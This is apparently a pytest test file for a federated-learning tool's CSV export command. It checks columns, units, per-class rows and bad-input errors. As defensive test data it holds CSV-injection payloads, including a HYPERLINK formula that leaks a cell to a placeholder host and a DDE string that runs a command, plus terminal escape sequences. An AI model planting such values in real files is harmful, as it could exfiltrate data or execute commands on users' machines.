"""``fedmech export`` over hand-built sweep and run folders and one real in-process run:
the exact columns, known values in the reader's units, flags, undefined values as empty
cells (never 0), per-class rows, sweep axis columns, and bad input."""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import io
import json
from pathlib import Path

import pytest
from test_report import CLASSES, config, make_sweep, write_run

from conftest import smoke_config
from fedmech_flwr.tools.cli import main

SWEEP_COLUMNS = ["run", "sweep", "data.partition", "strategy", "seed", "status", "round", "record", "metric",
                 "label", "unit", "class", "value", "flag"]


def read(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(path, newline="") as fh:
        reader = csv.DictReader(fh)
        return reader.fieldnames, list(reader)


def pick(rows: list[dict[str, str]], **match) -> list[dict[str, str]]:
    return [r for r in rows if all(r[k] == str(v) for k, v in match.items())]


@pytest.fixture(scope="module")
def sweep_csv(tmp_path_factory) -> tuple[Path, str]:
    sweep = make_sweep(tmp_path_factory.mktemp("sweep"))
    out = tmp_path_factory.mktemp("export") / "sweep.csv"
    stdout = io.StringIO()  # capsys is per test: capture the module's one export by hand
    with contextlib.redirect_stdout(stdout):
        assert main(["export", str(sweep), "--out", str(out)]) == 0
    return out, stdout.getvalue()


def test_a_sweep_exports_the_exact_columns_and_one_line_on_stdout(sweep_csv):
    out, stdout = sweep_csv
    columns, rows = read(out)
    assert columns == SWEEP_COLUMNS
    # 8 runs with records (the pending cell has no folder): the failed and running ones too
    assert stdout == f"{len(rows)} rows of 8 runs -> {out}\n"
    assert {r["status"] for r in rows} == {"completed", "running", "failed"}
    assert not pick(rows, run="dir_fedprox_s2")
    assert {r["sweep"] for r in rows} == {"misalign-v2"}
    assert {r["metric"] for r in rows} >= {"eval.accuracy", "eval.sparsity", "misalignment.gaps.probe",
                                           "circuits.intra_client", "usae.overlap"}


def test_values_are_in_the_readers_units_with_their_flags(sweep_csv):
    _, rows = read(sweep_csv[0])
    [acc] = pick(rows, run="iid_fedavg_s0", round=2, metric="eval.accuracy", **{"class": ""})
    assert (acc["record"], acc["label"], acc["unit"], acc["seed"]) == ("eval", "global test accuracy", "%", "0")
    assert (float(acc["value"]), acc["flag"]) == (80.0, "")
    [gap] = pick(rows, run="iid_fedavg_s0", round=2, metric="misalignment.gaps.probe", **{"class": ""})
    assert (gap["record"], gap["unit"], float(gap["value"])) == ("misalignment", "pp", 10.0)
    one_class = pick(rows, run="dir_fedavg_s0", round=2, metric="eval.accuracy")
    assert [r["value"] for r in one_class] == ["25.0"] * 5  # the overall row and four classes
    assert {r["flag"] for r in one_class} == {"one class"}


def test_undefined_values_are_empty_cells_never_zero(sweep_csv):
    _, rows = read(sweep_csv[0])
    intra = pick(rows, run="dir_fedprox_s0", metric="circuits.intra_client", **{"class": ""})
    assert [(r["round"], r["unit"], r["value"]) for r in intra] == [("1", "IoU", ""), ("2", "IoU", "")]
    [two] = pick(rows, run="iid_fedavg_s0", round=2, metric="eval.accuracy", **{"class": "two"})
    assert two["value"] == ""  # a null per-class accuracy


def test_per_class_rows_carry_the_class_names(sweep_csv):
    _, rows = read(sweep_csv[0])
    per_class = pick(rows, run="iid_fedavg_s0", round=2, metric="eval.accuracy")
    assert [(r["class"], r["value"]) for r in per_class] == [
        ("", "80.0"), ("zero", "90.0"), ("one", "80.0"), ("two", ""), ("three", "70.0")]
    gaps = pick(rows, run="iid_fedavg_s1", round=2, metric="misalignment.gaps.probe")
    assert [r["class"] for r in gaps] == ["", *CLASSES] and {r["value"] for r in gaps} == {"12.0"}


def test_axis_columns_hold_the_cells_labels(sweep_csv):
    _, rows = read(sweep_csv[0])
    labels = {(r["run"], r["data.partition"], r["strategy"]) for r in rows}
    assert ("dir_fedprox_s0", "dir0.05", "fedprox") in labels and ("iid_fedavg_s2", "iid", "fedavg") in labels
    assert len(labels) == 8  # one label set per run


@pytest.mark.skipif(importlib.util.find_spec("pandas") is None, reason="pandas is not installed")
def test_pandas_reads_it_and_groups_it(sweep_csv):
    import pandas as pd

    table = pd.read_csv(sweep_csv[0])
    assert list(table.columns) == SWEEP_COLUMNS
    final = table[(table["round"] == 2) & table["class"].isna() & (table["status"] == "completed")]
    mean = final.groupby(["data.partition", "strategy", "metric"])["value"].mean()
    assert mean[("iid", "fedavg", "eval.accuracy")] == pytest.approx(82.0)
    assert pd.isna(mean[("dir0.05", "fedprox", "circuits.intra_client")])  # undefined, not 0


def test_run_folders_export_without_sweep_columns_and_name_runs_without_declarations(tmp_path, capsys):
    run = write_run(tmp_path / "run", config(0), accuracy=0.5)
    gone = write_run(tmp_path / "gone", {**config(1), "plugins": ["no_such_lab_module"]}, accuracy=0.4)
    out = tmp_path / "runs.csv"
    assert main(["export", str(run), str(gone), "--out", str(out)]) == 0
    columns, rows = read(out)
    assert columns == [c for c in SWEEP_COLUMNS if c not in ("data.partition", "strategy")]
    assert {r["sweep"] for r in rows} == {""} and {r["run"] for r in rows} == {"run", "gone"}
    [acc] = pick(rows, run="gone", round=2, metric="eval.accuracy", **{"class": ""})
    assert float(acc["value"]) == 40.0
    captured = capsys.readouterr()
    problems = [line for line in captured.err.splitlines() if line.startswith("Exported by key:")]
    assert len(problems) == 1 and "gone recorded no declarations" in problems[0] and "no_such_lab_module" in problems[0]
    assert captured.out == f"{len(rows)} rows of 2 runs -> {out}\n"


FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]
"""Class names a dataset file may hold (CIFAR-10's ``label_names``), each a formula to a spreadsheet."""


def test_text_cells_are_never_formulas_and_numbers_stay_numbers(tmp_path, capsys):
    """OWASP's CSV injection rule: a text cell that begins with = + - @ gets a leading '; a
    negative value (here a probe gap of -10 pp) stays a number."""
    run = write_run(tmp_path / "@run", config(0), accuracy=0.5, probe_gap=-0.1)
    partitions = json.loads((run / "partitions.json").read_text())
    (run / "partitions.json").write_text(json.dumps({**partitions, "class_names": FORMULAS}))
    out = tmp_path / "runs.csv"
    assert main(["export", str(run), "--out", str(out)]) == 0
    assert capsys.readouterr().out == f"{len(read(out)[1])} rows of 1 runs -> {out}\n"
    _, rows = read(out)
    gaps = pick(rows, round=2, metric="misalignment.gaps.probe")
    assert [r["class"] for r in gaps] == ["", *(f"'{name}" for name in FORMULAS)]
    assert {r["run"] for r in rows} == {"'@run"} and {float(r["value"]) for r in gaps} == {-10.0}
    assert not [r for r in rows for cell in r.values() if cell[:1] in ("=", "+", "@", "\t", "\r")]
    if importlib.util.find_spec("pandas") is not None:
        import pandas as pd

        table = pd.read_csv(out)
        assert table["value"].dtype == float and table["round"].dtype == int
        assert table.loc[table["metric"] == "misalignment.gaps.probe", "value"].eq(-10.0).all()


@pytest.mark.parametrize("case, message", [
    ("no folder", "is not a folder: pass a sweep folder"),
    ("no out folder", "is not a folder; make it first"),
    ("parquet", "Parquet is not supported"),
])
def test_bad_input_exits_2_with_one_line(case, message, tmp_path, capsys):
    run = write_run(tmp_path / "run", config(0))
    paths, out = {"no folder": (tmp_path / "nothing", tmp_path / "a.csv"),
                  "no out folder": (run, tmp_path / "missing" / "a.csv"),
                  "parquet": (run, tmp_path / "a.parquet")}[case]
    assert main(["export", str(paths), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert message in err and len(err.strip().splitlines()) == 1 and not out.exists()


def test_a_real_run_exports_its_declared_metrics(tmp_path, capsys):
    from fedmech_flwr.contracts import plugins
    from fedmech_flwr.app.inprocess import run_in_process

    plugins.load()
    run = run_in_process(smoke_config(["federation.num_rounds=1"]), tmp_path / "runs")
    out = tmp_path / "real.csv"
    assert main(["export", str(run), "--out", str(out)]) == 0
    _, rows = read(out)
    names = [str(n) for n in json.loads((run / "partitions.json").read_text())["class_names"]]
    accuracy = pick(rows, metric="eval.accuracy", round=1)
    assert [r["class"] for r in accuracy] == ["", *names] and len(names) == 4
    assert all(0.0 <= float(r["value"]) <= 100.0 for r in accuracy)
    assert {r["round"] for r in pick(rows, metric="eval.accuracy", **{"class": ""})} == {"0", "1"}
    [drift] = pick(rows, metric="weight_divergence.mean.update_cosine")  # a diagnostic's declared metric
    assert (drift["record"], drift["round"], drift["unit"], drift["class"]) == ("weight_divergence", "1", "cosine", "")


CONTROL_NAMES = ["\x1b]0;retitled\x07", "bell\x07", "two", "three"]
"""Class names a dataset file may hold that act on a terminal: an OSC title sequence
(ESC ... BEL) and a bare BEL."""


def test_control_characters_in_class_names_are_shown_never_obeyed(tmp_path, capsys):
    """The same printable filter on every output: the CSV's cells, the report's page and
    its figures, and the run's own plots (matplotlib warns of a missing glyph for a raw
    ESC: a warning is an error here)."""
    import warnings

    from fedmech_flwr.artifacts.plotting import plot_run

    run = write_run(tmp_path / "run", config(0), accuracy=0.5)
    partitions = json.loads((run / "partitions.json").read_text())
    (run / "partitions.json").write_text(json.dumps({**partitions, "class_names": CONTROL_NAMES}))
    out = tmp_path / "runs.csv"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert main(["export", str(run), "--out", str(out)]) == 0
        assert main(["report", str(run), "--out", str(tmp_path / "report")]) == 0
        plot_run(run)
    text = out.read_text(encoding="utf-8")
    assert "\x1b" not in text and "\x07" not in text
    assert {r["class"] for r in read(out)[1]} >= {"\\x1b]0;retitled\\x07", "bell\\x07"}
    for page in (tmp_path / "report").rglob("*.*ml"):
        assert "\x1b" not in page.read_text(encoding="utf-8") and "\x07" not in page.read_text(encoding="utf-8")
    assert "\x1b" not in capsys.readouterr().out
